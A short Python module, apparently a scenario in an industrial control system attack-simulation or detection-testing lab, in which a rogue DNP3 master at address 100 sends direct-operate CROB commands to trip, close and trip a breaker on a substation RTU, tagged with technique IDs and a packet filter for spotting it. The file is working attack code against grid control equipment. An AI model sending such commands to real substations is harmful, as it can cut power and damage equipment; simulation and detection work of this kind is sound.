"""A second DNP3 master trips a breaker by direct operate."""

from __future__ import annotations

import opendnp3 as dnp3

from ..clients.scada_dnp3 import master
from ..node import Node

TITLE = "DNP3 direct operate (CROB trip and close) by a new master"
TECHNIQUES = ("T1692.001", "T0848")
ORIGIN = "laptop"
ENTITIES = ("laptop", "rtu-substation")
EVIDENCE = "dnp3.al.func == 5 && ip.src == 10.20.1.99"

ROGUE_ADDRESS = 100


def run(node: Node) -> None:
    """Trip, close, trip."""
    manager, station = master(node, ROGUE_ADDRESS, reconnect=20)
    station.Enable()
    node.pause(1.2)
    for code in (dnp3.TripCloseCode.TRIP, dnp3.TripCloseCode.CLOSE, dnp3.TripCloseCode.TRIP):
        crob = dnp3.ControlRelayOutputBlock(dnp3.OperationType.PULSE_ON, code)
        station.DirectOperate(crob, 3, lambda result: None)
        node.pause(0.7)
    manager.Shutdown()
